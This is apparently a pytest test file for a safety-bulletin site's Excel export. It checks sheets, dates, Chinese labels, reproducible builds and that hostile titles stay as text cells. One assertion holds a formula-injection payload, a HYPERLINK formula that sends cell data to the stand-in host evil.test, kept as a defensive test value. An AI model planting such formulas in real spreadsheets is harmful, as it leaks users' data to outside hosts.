"""directives.xlsx, read back with openpyxl: its sheets (all, overdue, by unit), the CSV's header
and values (dates as Excel dates, days as numbers, no quote before a would-be formula: every
text is a text cell), frozen header, autofilter, widths; and the same bytes from two builds."""

import datetime as dt
import io
import json
import re
import shutil
import string
import subprocess
import zipfile

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given, settings, strategies as st
from xml.etree import ElementTree

from helpers import MEETING_MD, SITE_YML, UNITS_YML, URLS, build, write_tree
from test_spreadsheet import FOLLOW_UP, HOSTILE_TITLES, meeting, read_csv, soffice, unquote

from safety_bulletins.outputs.export import directives_json
from safety_bulletins.outputs.labels import ENGLISH, for_language
from safety_bulletins.outputs.spreadsheet import code_columns, directive_columns
from safety_bulletins.outputs.workbook import (DATE_COLUMNS, MEETING_COLUMNS, _Formats, _sheet, directives_xlsx,
                                               display_width, sheet_names)
from safety_bulletins.site_build.sitebuild import SiteBuild

AS_OF = "2021-06-12"
OOXML = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
CHINESE_MEETING = """\
---
title: 消防安全专题会议纪要
date: 2021-05-26
type: minutes
---
/// directive | 清理消防通道堆放物，恢复疏散通道畅通
    id: ZH-1
    units: [energy]
    deadline: 2021-06-01
    grade: 重大隐患

事项内容。
///
"""


def project_files(language: str = "en") -> dict[str, str]:
    return {
        "mkdocs.yml": SITE_YML.replace("  font: false\n", f"  font: false\n  language: {language}\n"),
        "docs/index.md": "# Home\n", "bulletins/units.yml": UNITS_YML,
        "bulletins/2021/2021-05-25-meeting.md": meeting(HOSTILE_TITLES),
        "bulletins/2021/2021-05-26-zh.md": CHINESE_MEETING,
        "bulletins/2021/2021-06-01-re-inspection.md": FOLLOW_UP,
    }


@pytest.fixture(scope="module")
def sites(tmp_path_factory):
    """The English site built twice (from two copies of the sources), and the Chinese one."""
    root = tmp_path_factory.mktemp("xlsx")
    made = {name: build(write_tree(root / name, project_files(language)), as_of=AS_OF)
            for name, language in (("en", "en"), ("again", "en"), ("zh", "zh"))}
    return made


def cell_text(cell) -> str:
    """A cell of the workbook as the CSV writes it."""
    if cell.value is None:
        return ""
    if cell.is_date:
        return cell.value.date().isoformat()
    return str(cell.value)


def test_every_sheet_has_a_frozen_header_an_autofilter_and_no_formula(sites):
    book = openpyxl.load_workbook(sites["en"] / "directives.xlsx")
    assert book.sheetnames == ["All directives", "Overdue", "Open, by unit"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
        assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
        widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
        assert all(6 <= w < 61 for w in widths), (sheet.title, widths)
    assert book.properties.created == dt.datetime(2021, 6, 12)  # the as-of date, not the clock


def test_all_directives_holds_the_csv_typed(sites):
    sheet = openpyxl.load_workbook(sites["en"] / "directives.xlsx")["All directives"]
    rows = read_csv((sites["en"] / "directives.csv").read_bytes())
    cells = list(sheet.iter_rows())
    assert [c.value for c in cells[0]] == rows[0] == [*directive_columns(), *code_columns()]
    assert len(cells) == len(rows)
    for row, sheet_row in zip(rows[1:], cells[1:]):
        assert [cell_text(c) for c in sheet_row] == [unquote(v) for v in row]  # the quote only in the CSV
    column = {name: n for n, name in enumerate(rows[0])}
    first = next(row for row in cells if row[0].value == "X-1")
    # a hostile title stays its text, as a text cell: shown, never run
    assert first[column["title"]].value == HOSTILE_TITLES[0] and first[column["title"]].data_type == "s"
    assert first[column["text"]].value.startswith("-1 line of text\n=SUM(A1)")
    for name in DATE_COLUMNS:  # real dates, shown as dates
        dated = [r[column[name]] for r in cells[1:] if r[column[name]].value is not None]
        assert all(c.is_date and c.number_format == "yyyy-mm-dd" for c in dated), name
    assert first[column["deadline"]].value == dt.datetime(2021, 7, 15)  # extended by the follow-up
    assert first[column["original_deadline"]].value == dt.datetime(2021, 6, 11)
    days = [r[column["days_overdue"]].value for r in cells[1:]]
    assert all(isinstance(d, int) for d in days) and max(days) > 0


def test_overdue_and_by_unit_sheets(sites):
    book = openpyxl.load_workbook(sites["en"] / "directives.xlsx")
    records = json.loads((sites["en"] / "directives.json").read_text(encoding="utf-8"))["directives"]
    overdue = [[c.value for c in row] for row in book["Overdue"].iter_rows()]
    assert overdue[0] == [*MEETING_COLUMNS, "status_code"]
    expected = sorted((r for r in records if r["bucket"] == "overdue"), key=lambda r: (-r["days_overdue"], r["id"]))
    assert [row[0] for row in overdue[1:]] == [r["id"] for r in expected] and expected
    assert [row[MEETING_COLUMNS.index("days_overdue")] for row in overdue[1:]] == [r["days_overdue"] for r in expected]

    by_unit = [dict(zip(MEETING_COLUMNS, [c.value for c in row][2:])) | {"unit": row[0].value, "role": row[1].value,
               "unit_id": row[-4].value} for row in book["Open, by unit"].iter_rows(min_row=2)]
    held = [(r["unit_id"], r["id"], r["role"]) for r in by_unit]
    open_records = [r for r in records if r["bucket"] != "closed"]
    wanted = {(unit, r["id"], "responsible") for r in open_records for unit in r["units"]} | \
             {(unit, r["id"], "support") for r in open_records for unit in r["support"]}
    assert set(held) == wanted and len(held) == len(wanted) and open_records
    assert {r["unit"] for r in by_unit if r["unit_id"] == "property"} == {"Property Management Company"}
    deadlines = [(r["unit_id"], r["deadline"]) for r in by_unit]
    assert all(a[1] <= b[1] for a, b in zip(deadlines, deadlines[1:]) if a[0] == b[0])  # by deadline in a unit


def test_a_directive_to_all_units_is_one_row_under_all_units(tmp_path):
    root = write_tree(tmp_path / "bulletins", {"units.yml": UNITS_YML, "2021/2021-05-25-meeting.md": MEETING_MD})
    build = SiteBuild.load(root, dt.date(2021, 6, 1), urls=URLS)
    records = directives_json(build.catalog, URLS)["directives"]
    to_all = [r["id"] for r in records if r["units"] == ["all"]]
    assert to_all
    sheet = openpyxl.load_workbook(io.BytesIO(directives_xlsx(records, build.catalog)))["Open, by unit"]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [(row[0], row[-4]) for row in rows if row[2] in to_all] == [("All units", "all")] * len(to_all)
    assert rows[0][0] == "All units"


def test_the_chinese_site_s_workbook_reads_in_chinese(sites):
    book = openpyxl.load_workbook(sites["zh"] / "directives.xlsx")
    assert book.sheetnames == ["全部事项", "已逾期", "未办结（按单位）"]
    rows = read_csv((sites["zh"] / "directives.csv").read_bytes())
    sheet = book["全部事项"]
    assert [c.value for c in sheet[1]] == rows[0]
    assert [[cell_text(c) for c in row] for row in sheet.iter_rows(min_row=2)] == \
           [[unquote(v) for v in row] for row in rows[1:]]
    zh = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "ZH-1")
    assert "重大隐患" in [c.value for c in zh] and "能源公司" in [c.value for c in zh]
    title = sheet.column_dimensions["B"].width  # CJK counts double: the Chinese title is 36 columns wide
    assert title >= display_width("清理消防通道堆放物，恢复疏散通道畅通") == 36
    assert [c.value for c in book["未办结（按单位）"][1]][:2] == ["单位", "角色"]
    assert {row[1].value for row in book["未办结（按单位）"].iter_rows(min_row=2)} <= {"负责", "配合", "验收"}


def test_two_builds_give_the_same_bytes(sites):
    assert (sites["en"] / "directives.xlsx").read_bytes() == (sites["again"] / "directives.xlsx").read_bytes()


def test_display_width_counts_wide_characters_twice():
    assert (display_width("abc"), display_width("消防"), display_width("A１")) == (3, 4, 3)


@pytest.mark.parametrize("wanted, names", [
    (["All", "Overdue", "By unit"], ["All", "Overdue", "By unit"]),
    (["a[b]:c*d?e/f\\g"], ["a_b__c_d_e_f_g"]),
    (["'quoted'", "x" * 40, "X" * 40], ["quoted", "x" * 31, "X" * 29 + "_2"]),
    (["", "Sheet"], ["Sheet", "Sheet_2"]),
])
def test_sheet_names_excel_accepts(wanted, names):
    made = sheet_names(wanted)
    assert made == names
    for name in made:
        assert 0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") and not name.startswith("'")
    assert len({n.casefold() for n in made}) == len(made)
    assert set("".join(made)) <= set(string.printable)


def test_libreoffice_opens_the_workbook_as_it_is(sites, tmp_path):
    """LibreOffice given directives.csv with no import options reads it as the Windows code page,
    byte-order mark or not (7.4.7), so the Chinese comes out garbled (the control); the workbook
    needs no options: opened as it is, every text is intact, dates stay dates and nothing runs."""
    shutil.copy(sites["zh"] / "directives.xlsx", tmp_path / "directives.xlsx")
    shutil.copy(sites["zh"] / "directives.csv", tmp_path / "register.csv")
    csv_bytes = (tmp_path / "register.csv").read_bytes()
    assert csv_bytes.startswith(b"\xef\xbb\xbf") and len(read_csv(csv_bytes)) == csv_bytes.count(b"\r\n")
    result = subprocess.run(
        [soffice(), f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "ods",
         "--outdir", str(tmp_path / "out"), str(tmp_path / "directives.xlsx"), str(tmp_path / "register.csv")],
        capture_output=True, text=True, timeout=180)
    assert (tmp_path / "out" / "directives.ods").is_file(), result.stdout + result.stderr
    # LibreOffice's own file, read back: its content.xml holds the cells' text and types
    content, from_csv = (zipfile.ZipFile(tmp_path / "out" / name).read("content.xml").decode("utf-8")
                         for name in ("directives.ods", "register.ods"))
    assert content.count("<table:table ") == 3
    assert "ZH-1" in from_csv and "清理消防通道" not in from_csv  # the control: the CSV's Chinese garbled
    for text in ("全部事项", "已逾期", "未办结（按单位）", "清理消防通道堆放物，恢复疏散通道畅通", "能源公司", "重大隐患"):
        assert text in content, text
    assert 'office:value-type="date" office:date-value="2021-06-01"' in content
    assert "table:formula" not in content
    assert "=HYPERLINK(&quot;http://evil.test/?&quot;&amp;A1,&quot;Details&quot;)" in content


SHARED = """\
---
title: Meeting
date: 2021-05-25
type: minutes
---
/// directive | Clear the exits
    id: S-1
    units: [property, energy]
    support: [safety-env]
    deadline: 2021-06-10

Both units clear their exits.
///
"""
ENERGY_DONE = """\
---
title: Re-inspection
date: 2021-06-05
type: inspection
---
/// follow-up | Clear the exits
    directive: S-1
    units: [energy]
    status: done

Energy's exits are clear.
///
"""


def test_the_by_unit_sheet_shows_each_unit_s_share(tmp_path):
    root = write_tree(tmp_path / "bulletins", {"units.yml": UNITS_YML, "2021/2021-05-25-meeting.md": SHARED,
                                               "2021/2021-06-05-re-inspection.md": ENERGY_DONE})
    build = SiteBuild.load(root, dt.date(2021, 6, 20), urls=URLS)
    assert not build.project.errors, build.project.errors
    records = directives_json(build.catalog, URLS)["directives"]
    sheet = openpyxl.load_workbook(io.BytesIO(directives_xlsx(records, build.catalog)))["Open, by unit"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, [c.value for c in row])) for row in sheet.iter_rows(min_row=2)]
    # energy's share is done (closed: not listed), property's open and overdue; the supporting unit sees
    # the directive's own state (in progress: one share done)
    assert [(r["unit_id"], r["role_code"], r["status_code"], r["bucket_code"], r["days_overdue"]) for r in rows] == [
        ("safety-env", "support", "in-progress", "overdue", 10), ("property", "responsible", "open", "overdue", 10)]


def excel_text(escaped: str) -> str:
    """A shared string as Excel reads it: OOXML writes a character XML cannot hold (and a literal
    `_xHHHH_`) as `_xHHHH_`."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), escaped)


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40))
def test_any_title_is_a_text_cell_excel_reads_back_as_written(title):
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    _sheet(book, "S", ("id", "title"), {"id": "id", "title": "title"}, [{"id": "D-1", "title": title}], _Formats(book, ENGLISH))
    book.close()
    parts = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    sheet = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
    strings = ElementTree.fromstring(parts.read("xl/sharedStrings.xml"))
    cells = sheet.findall(f".//{OOXML}c")
    assert [c.get("t") for c in cells] == ["s"] * 4 and not sheet.findall(f".//{OOXML}f")  # text, never a formula
    texts = ["".join(t.text or "" for t in si.iter(f"{OOXML}t")) for si in strings.findall(f"{OOXML}si")]
    assert [excel_text(texts[int(c.find(f"{OOXML}v").text)]) for c in cells] == ["id", "title", "D-1", title]


@pytest.mark.parametrize("language, shown", [("zh", "立即（"), ("en", "Immediately (")])
def test_an_immediate_deadline_is_a_date_cell_shown_with_its_word(language, shown):
    """A deadline written 立即 (the row's `deadline_written`, as the CSV has it beside the day) is a
    real date in the workbook, so it sorts and filters, and shows 立即 by its number format."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    _sheet(book, "S", ("id", "deadline"), {"id": "id", "deadline": "deadline"},
           [{"id": "D-1", "deadline": "2026-11-19", "deadline_written": "立即"},
            {"id": "D-2", "deadline": "2026-12-01", "deadline_written": "12月1日前"}], _Formats(book, for_language(language)))
    book.close()
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["S"]
    assert sheet["B2"].value == dt.datetime(2026, 11, 19) and sheet["B3"].value == dt.datetime(2026, 12, 1)
    assert shown in sheet["B2"].number_format and "yyyy-mm-dd" in sheet["B2"].number_format
    assert sheet["B3"].number_format == "yyyy-mm-dd"
